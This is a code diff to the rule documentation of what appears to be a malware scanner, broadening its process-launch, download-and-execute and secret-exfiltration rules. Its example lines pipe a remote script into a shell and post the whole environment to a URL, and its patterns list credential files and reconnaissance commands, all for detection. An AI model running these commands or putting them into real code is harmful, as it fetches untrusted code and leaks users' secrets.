@@ -154,7 +154,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'process',
     severity: 'high',
     catches:
-      'A process that launches a program rather than a build step: the Windows start launcher, an .exe/.vbs/.bat/.ps1/.pyw file, PowerShell, pythonw, an interpreter running a file from the home, temp or AppData folder, a reverse shell, a file made executable and run, os.startfile, or reconnaissance commands (whoami, env, uname, cat /etc/passwd). High in code that runs at install, start-up or import; low when called.',
+      'A process that launches a program rather than a build step: the Windows start launcher, an .exe/.vbs/.bat/.ps1/.pyw file, PowerShell, pythonw, an interpreter running a file from the home, temp or AppData folder, a reverse shell, a file made executable and run, os.startfile, or reconnaissance commands (whoami, env, uname, cat /etc/passwd); also a second Python started with inline code (python -c) by code that runs on import or start-up. High in code that runs at install, start-up or import; low when called.',
     example: 'os.system("start " + path + "\\\\update.exe")',
     falsePositives: 'Command-line tools that open files or run helper scripts when the user asks (low).',
   },
@@ -183,7 +183,8 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     name: 'Download and execute',
     family: 'process',
     severity: 'high',
-    catches: 'Code that fetches something and runs it: curl | sh, iwr | iex, exec() of a network response.',
+    catches:
+      'Code that fetches something and runs it: curl | sh, iwr | iex, exec() of a network response, or a command line that downloads a file and makes it executable (wget ... && chmod +x).',
     example: 'os.system("curl -s https://x.example/i.sh | sh")',
     falsePositives: 'Installers of developer tools (rare in libraries).',
   },
@@ -330,7 +331,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'data-flow',
     severity: 'high',
     catches:
-      "A data flow from a source (the whole environment, secret-named environment variables, credential files such as ~/.aws/credentials, ~/.ssh/id_*, .netrc, .pypirc, docker and kube configs, browser and Discord stores, wallets; machine identity such as host name, user name, MAC address; clipboard, screenshots) to a network sink, through assignments, containers, formatting, encoders and the file's own functions. The path is reported step by step. Severity weighs the source, the destination (hard-coded, shady) and when it runs.",
+      "A data flow from a source (the whole environment, secret-named environment variables, credential files such as ~/.aws/credentials, ~/.ssh/id_*, .netrc, .pypirc, docker and kube configs, browser and Discord stores, wallets; machine identity such as host name, user name, MAC address; clipboard, screenshots) to a network sink, through assignments, containers, formatting, encoders and the file's own functions. The path is reported step by step. Severity weighs the source, the destination (hard-coded, shady) and when it runs; any source sent by code that runs by itself (install, start-up, import) is at least high, the shape of a dependency-confusion callback.",
     example: 'requests.post(URL, json=dict(os.environ))',
     falsePositives:
       'Cloud SDKs that send a credential to their own service when the user calls them (reported low or medium, not high).',
